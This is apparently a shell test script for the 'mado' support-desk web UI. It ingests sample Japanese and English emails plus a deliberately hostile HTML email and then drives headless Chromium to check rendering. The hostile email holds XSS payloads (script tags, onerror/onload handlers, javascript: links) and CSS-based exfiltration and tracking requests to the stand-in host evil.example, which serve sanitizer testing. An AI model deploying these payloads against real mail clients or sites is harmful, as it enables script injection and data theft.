#!/bin/sh
# The agent web UI in a real browser: Debian's Chromium, headless, driven
# by Playwright (playwright-core from web/node_modules) through
# tests/browser/ui.mjs, against `mado serve` with the UI embedded. The
# script prints TAP. Chromium or Node missing is a failure, never a skip.
. "$(dirname "$0")/lib.sh"

need_browser

WS=$(new_ws ws)
browser_agents "$WS"

b64() { printf '%s' "$1" | base64 -w0; }
# a Japanese customer mail (ISO-2022-JP would also do; UTF-8 base64 here)
{
	printf 'From: =?UTF-8?B?%s?= <hanako@example.co.jp>\nTo: support@localhost\n' "$(b64 '山田 花子')"
	printf 'Subject: =?UTF-8?B?%s?=\nMessage-ID: <ja-1@example.co.jp>\nDate: Mon, 23 Nov 2026 09:00:00 +0900\n' "$(b64 '請求書の金額について')"
	printf 'MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n'
	b64 "$(printf 'いつもお世話になっております。\n先月の請求書の金額が間違っているようです。\nご確認をお願いいたします。\n\n2026年11月20日 サポート <support@example.com>:\n> 以前のやりとり\n> 引用された古い本文')" | fold -w 76
	printf '\n'
} | mado -w "$WS" ingest
BODY='Hello, the printer in room 4 is on fire. Please help quickly.' \
	mail bob@example.org "Printer on fire" en-1@example.org | mado -w "$WS" ingest
# a hostile HTML mail: scripts, handlers, CSS exfiltration, javascript:
# links, meta refresh, remote images, frames, forms
cat <<'MAIL' | mado -w "$WS" ingest
From: Mallory <mallory@evil.example>
To: support@localhost
Subject: Invoice overdue (hostile)
Message-ID: <hostile-1@evil.example>
Date: Mon, 23 Nov 2026 10:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="b1"

--b1
Content-Type: text/plain; charset=utf-8

Please see the formatted version.
--b1
Content-Type: text/html; charset=utf-8

<html><head><meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<base href="http://evil.example/">
<link rel="stylesheet" href="http://evil.example/link.css">
<style>@import url(http://evil.example/import.css); body{background:url(http://evil.example/css-bg)}
input[value^="a"]{background:url("http://evil.example/exfil?a")}</style>
<script>alert('script');console.log('MADO-PWNED script')</script></head>
<body onload="console.log('MADO-PWNED onload')">
<p id="hostile-text">Pay now: 悪意のある請求 hostile body</p>
<img src="http://evil.example/track.png" width="1" height="1">
<img src="x" onerror="alert('onerror');console.log('MADO-PWNED onerror')">
<a id="jslink" href="javascript:console.log('MADO-PWNED link')">click me</a>
<a href="JaVaScRiPt:alert(1)">second</a>
<div style="background-image:url('http://evil.example/style-attr')">styled</div>
<svg><image href="http://evil.example/svg.png"/><script>console.log('MADO-PWNED svg')</script></svg>
<iframe src="http://evil.example/frame"></iframe>
<object data="http://evil.example/obj"></object>
<form action="http://evil.example/form"><input name="q" value="abc"><button>go</button></form>
<video poster="http://evil.example/poster.png"></video>
</body></html>
--b1--
MAIL
sql "$WS" "UPDATE tickets SET group_id = (SELECT id FROM groups WHERE name = 'Support')"
is "$(ntickets "$WS")" 3 "three tickets ingested (Japanese, English, hostile)"

start_server "$WS"
mkdir -p "$MADO_ROOT/build-san/screenshots"
MADO_BASE=$BASE MADO_WS=$WS MADO_BIN=$MADO_BIN CHROMIUM=$CHROMIUM T_START=$T_N \
	SCREENSHOTS="$MADO_ROOT/build-san/screenshots" \
	node "$MADO_ROOT/tests/browser/ui.mjs"
rc=$?
exit $rc
